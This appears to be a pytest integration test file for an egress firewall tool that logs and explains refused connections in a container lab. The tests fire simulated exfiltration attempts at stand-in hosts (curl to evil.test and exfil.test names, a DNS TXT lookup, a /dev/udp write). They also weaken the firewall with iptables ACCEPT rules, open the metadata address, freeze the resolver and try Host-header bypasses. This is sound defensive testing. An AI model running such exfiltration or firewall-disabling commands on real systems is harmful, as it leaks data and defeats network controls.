"""The reading commands in a real container: what a refused user sees, and what breaks the proof."""

from __future__ import annotations

import json
import subprocess
import time
from collections.abc import Iterator
from typing import Any

import pytest

from tests import clock
from tests.netns.lab.addresses import AGENT, EVIL4, GATEWAY4, NEIGHBOUR4
from tests.netns.lab.container import DOCKER
from tests.netns.lab.lab import Lab
from tests.netns.redteam.adapter import made

pytestmark = pytest.mark.netns

PROGRAM, EGRESS = "/usr/local/sbin/mcpconf-fw", "/etc/mcpconf/egress.json"
AS_AGENT = (
    f"setpriv --reuid {AGENT} --regid {AGENT} --clear-groups --no-new-privs timeout 9 bash -c"
)


def row(host: str, port: int, form: str = "name") -> dict[str, Any]:
    why = [{"layer": "server", "text": "the server context7 says so"}]
    return {"host": host, "port": port, "form": form, "servers": ["context7"], "because": why}


ROWS = [row("allowed.test", 443), row("allowed.test", 80), row("rebind-lan.test", 443)]


class Inside:
    """A container in which the firewall is in force."""

    def __init__(self, lab: Lab, mode: str) -> None:
        self.lab = lab
        document = {"version": 1, "mode": mode, "gateway": None, "rows": ROWS}
        lab.write(PROGRAM, made(), 0o755)
        lab.write(EGRESS, json.dumps(document))
        done = lab.run([PROGRAM, "apply"])
        assert done.returncode == 0, done.stderr

    def fw(self, *words: str) -> subprocess.CompletedProcess[str]:
        return self.lab.run([PROGRAM, *words], env={"SUDO_UID": str(AGENT)})

    def blocked(self, *words: str) -> list[dict[str, Any]]:
        done = self.fw("blocked", "--format", "json", *words)
        assert done.returncode == 0, done.stderr
        found: list[dict[str, Any]] = json.loads(done.stdout)["blocked"]
        return found

    def agent(self, command: str) -> None:
        self.lab.run([*AS_AGENT.split(), command], DOCKER)


@pytest.fixture(scope="module")
def lab() -> Iterator[Lab]:
    with Lab() as running:
        yield running


@pytest.fixture(scope="module")
def inside(lab: Lab) -> Inside:
    return Inside(lab, "default")


def curl(*urls: str) -> str:
    return "; ".join(f"curl -sk --max-time 3 {url} >/dev/null" for url in urls)


def place(attempt: dict[str, Any]) -> tuple[Any, ...]:
    return tuple(attempt[key] for key in ("name", "address", "port", "protocol", "reason"))


def test_blocked_says_what_was_refused_and_why(inside: Inside) -> None:
    inside.agent(curl("https://mcp.blocked.test/"))
    inside.agent(curl("http://evil.test:8080/", f"https://{EVIL4}/", "https://sub.allowed.test/"))
    inside.agent(
        curl("https://rebind-lan.test/", f"http://{NEIGHBOUR4}/", "http://allowed.test:81/")
    )
    inside.agent(curl("http://host.docker.internal:22/"))
    inside.agent("dig +time=1 +tries=1 TXT secret.exfil.test; echo x >/dev/udp/45.66.77.99/123")
    time.sleep(0.3)
    found = {place(one): one for one in inside.blocked()}
    assert ("mcp.blocked.test", None, 443, "tcp", "name") in found
    assert ("evil.test", None, 8080, "tcp", "name") in found
    assert (None, EVIL4, 443, "tcp", "address") in found
    assert (None, NEIGHBOUR4, 80, "tcp", "peer") in found
    assert ("allowed.test", "45.66.77.10", 81, "tcp", "port") in found
    assert ("sub.allowed.test", None, None, "dns", "subdomain") in found
    assert ("secret.exfil.test", None, None, "dns", "record") in found
    assert ("rebind-lan.test", None, None, "dns", "rebind") in found
    assert (None, "45.66.77.99", 123, "udp", "address") in found
    machine = found["host.docker.internal", GATEWAY4, 22, "tcp", "peer"]
    assert (machine["commands"], "gateway" in machine["help"]) == ([], True)
    one = found[None, EVIL4, 443, "tcp", "address"]
    assert (one["uid"], one["count"]) == (AGENT, 1)
    assert one["commands"] == [f"mcpconf allow {EVIL4} --port 443"]
    assert abs(one["last"] - time.time()) < 20
    assert not any("invalid" in str(key) or "192." in str(key) for key in found)  # no try of ours


def test_blocked_may_be_asked_for_one_host(inside: Inside) -> None:
    assert {one["name"] for one in inside.blocked("mcp.blocked.test")} == {"mcp.blocked.test"}
    assert {one["name"] for one in inside.blocked("blocked.test")} == {"mcp.blocked.test"}
    assert {one["address"] for one in inside.blocked(EVIL4)} == {EVIL4}
    assert inside.blocked("nobody.test") == []
    said = inside.fw("blocked", "mcp.blocked.test").stdout
    assert "mcp.blocked.test:443  tcp" in said
    assert "the name is not listed; mcpconf allow --peer mcp.blocked.test --port 443" in said
    assert inside.fw("blocked", "nobody.test").stdout == "nothing was refused of nobody.test\n"


def test_follow_shows_an_attempt_within_a_second(inside: Inside) -> None:
    words = [PROGRAM, "blocked", "--follow", "--format", "json"]
    time.sleep(1.2)  # attempts of the second before its start are shown as well
    running = inside.lab.start(words, stdout=subprocess.PIPE, text=True)
    assert running.stdout
    time.sleep(1)
    inside.agent(curl("https://new.exfil.test:444/"))
    began = clock.now()
    shown = json.loads(running.stdout.readline())
    assert clock.now() - began < 1
    assert place(shown) == ("new.exfil.test", None, 444, "tcp", "name")
    inside.lab.force("pkill -INT -f 'mcpconf-fw blocked --follow'")
    assert running.wait(30) == 0
    with running.stdout:
        assert running.stdout.read() == ""


def test_follow_ends_with_its_reader(inside: Inside) -> None:
    began = clock.now()
    done = inside.lab.run(f"{PROGRAM} blocked --follow --since 3600 | head -n 1; echo ended")
    assert done.stdout.endswith("ended\n")
    assert done.stderr == ""
    assert clock.now() - began < 5


def test_status_shows_rows_with_what_went_through(inside: Inside) -> None:
    inside.agent(curl("https://allowed.test/"))
    done = inside.fw("status", "--format", "json")
    told = json.loads(done.stdout)
    assert (done.returncode, told["in_force"], told["mode"]) == (0, True, "default")
    assert {one["result"] for one in told["findings"]} == {"ok"}
    (opened,) = [one for one in told["rows"] if (one["host"], one["port"]) == ("allowed.test", 443)]
    assert "45.66.77.10" in opened["addresses"]
    assert opened["packets"] > 0
    assert opened["servers"] == ["context7"]
    said = inside.fw("status").stdout
    assert said.startswith("in force: default mode, iptables, since ")
    assert "the server context7 says so" in said


def test_verify_proves_and_leaves_no_trace(inside: Inside) -> None:
    before = inside.blocked("--since", "600")
    done = inside.fw("verify")
    assert done.returncode == 0, done.stdout
    results = {line.split()[1]: line.split()[0] for line in done.stdout.splitlines()}
    assert set(results.values()) == {"ok"}
    names = {"name-a", "name-txt", "resolver-ipv6", "docker-resolver-1", "tcp-public-ipv4"}
    assert names | {"udp-public-ipv6", "metadata", "listed-ipv4", "listed-ipv6"} <= set(results)
    time.sleep(0.3)
    rebound = ("rebind-lan.test", None, None, "dns", "rebind")  # it is listed, and so was tried
    after = {place(one) for one in inside.blocked("--since", "600")}
    assert after == {place(one) for one in before} | {rebound}


@pytest.mark.parametrize(
    ("hole", "shows"),
    [
        ("ip6tables -P OUTPUT ACCEPT; ip6tables -D OUTPUT -j MCP-OUT", "tcp-public-ipv6"),
        ("iptables -I MCP-OUT -p udp -j ACCEPT", "udp-public-ipv4"),
        ("iptables -I MCP-OUT -d 127.0.0.11 -j ACCEPT", "docker-resolver-1"),
        ("iptables -I MCP-OUT -d 169.254.169.254 -j ACCEPT", "metadata"),
        ("iptables -t nat -F MCP-DNS", "name-a"),
    ],
)
def test_verify_finds_holes(inside: Inside, hole: str, shows: str) -> None:
    inside.lab.force(hole)
    done = inside.fw("verify", "--format", "json")
    inside.fw("refresh")
    assert done.returncode == 1
    told = json.loads(done.stdout)
    assert told["ok"] is False
    assert shows in {one["name"] for one in told["checks"] if one["result"] in {"HOLE", "SHUT"}}


@pytest.mark.parametrize(
    ("harm", "shows"),
    [
        ("iptables -P OUTPUT ACCEPT", "IPv4"),
        ("ip6tables -I OUTPUT -j ACCEPT", "IPv6"),
        ("iptables -F MCP-NEVER", "IPv4"),
        ("kill -STOP $(cat /run/mcpconf-fw/dns-*.pid)", "resolver"),
    ],
)
def test_status_tells_what_is_broken(inside: Inside, harm: str, shows: str) -> None:
    inside.lab.force(harm)
    done = inside.fw("status", "--format", "json")
    inside.lab.force("kill -CONT $(cat /run/mcpconf-fw/dns-*.pid); ip6tables -D OUTPUT -j ACCEPT")
    inside.fw("refresh")
    assert done.returncode == 1
    assert shows in {
        o["name"] for o in json.loads(done.stdout)["findings"] if o["result"] == "fault"
    }
    assert inside.fw("status").returncode == 0


def test_a_list_that_is_not_taken_up_is_a_fault(inside: Inside) -> None:
    good = inside.lab.force(f"cat {EGRESS}")

    def found() -> tuple[int, dict[str, Any]]:
        done = inside.fw("status", "--format", "json")
        told = json.loads(done.stdout)["findings"]
        return done.returncode, {one["name"]: one for one in told}["egress.json"]

    inside.lab.write(EGRESS, "{")
    assert (found()[0], found()[1]["result"]) == (0, "note")  # the keeper needs a moment
    time.sleep(5.5)
    code, finding = found()
    assert (code, finding["result"]) == (1, "fault")
    assert "cannot be read: it is not JSON" in finding["text"]
    inside.lab.write(EGRESS, good)
    inside.fw("refresh")
    assert found()[0] == 0


def test_the_logs_are_exchanged_and_nothing_is_forgotten(inside: Inside) -> None:
    fill = "head -c 4100000 /dev/zero | tr '\\0' x >> {0}; echo >> {0}"
    for name in ("dns.log", "packets.json"):
        inside.lab.force(fill.format(f"/run/mcpconf-fw/{name}"))
    assert inside.fw("fold").returncode == 0
    inside.agent(curl("https://late.exfil.test/"))
    time.sleep(0.3)
    assert [place(one)[:3] for one in inside.blocked("late.exfil.test")] == [
        ("late.exfil.test", None, 443)
    ]
    assert inside.blocked("mcp.blocked.test")
    sizes = inside.lab.force("cd /run/mcpconf-fw; stat -c %s dns.log packets.json").split()
    assert all(0 < int(size) < 100_000 for size in sizes)
    told = json.loads(inside.fw("status", "--format", "json").stdout)
    assert any("45.66.77.10" in one["addresses"] for one in told["rows"])


def test_who_may_not_is_told_so(inside: Inside) -> None:
    for verb in ("blocked", "status", "verify"):
        done = inside.lab.run([*AS_AGENT.split(), f"{PROGRAM} {verb}"], DOCKER)
        assert done.returncode == 4
        assert "help: run it with sudo" in done.stderr
        assert inside.fw(verb, "--policy", "/etc/shadow").returncode == 2


def test_strict_mode(lab: Lab, inside: Inside) -> None:
    del inside  # it comes after what is in force now
    strict = Inside(lab, "strict")
    strict.agent(
        "curl -sk --max-time 3 --resolve evil.test:443:45.66.77.10 https://evil.test/;"
        "curl -s --max-time 3 -H 'Host: evil.test' http://allowed.test/;"
        f"curl -sk --max-time 3 --resolve allowed.test:443:{EVIL4} https://allowed.test/"
    )
    time.sleep(0.3)
    found = {place(one) for one in strict.blocked("--since", "5")}
    assert ("evil.test", "45.66.77.10", 443, "tcp", "gate-name") in found
    assert ("evil.test", "45.66.77.10", 80, "tcp", "gate-name") in found
    assert (None, EVIL4, 443, "tcp", "elsewhere") in found
    done = strict.fw("verify")
    assert done.returncode == 0, done.stdout
    time.sleep(0.3)
    assert not [one for one in strict.blocked("--since", "5") if "invalid" in str(one)]
    assert "ok    gate-tls" in done.stdout
    assert "ok    gate-http" in done.stdout
    assert strict.fw("status").returncode == 0
    lab.force("kill $(cat /run/mcpconf-fw/gate.pid)")
    assert strict.fw("status").returncode == 1


def test_after_stop_it_is_not_in_force(lab: Lab, inside: Inside) -> None:
    assert inside.fw("stop", "--open").returncode == 0
    for verb in ("blocked", "status", "verify"):
        done = lab.run([PROGRAM, verb])
        assert done.returncode == 1
        assert "the firewall is not in force" in done.stderr
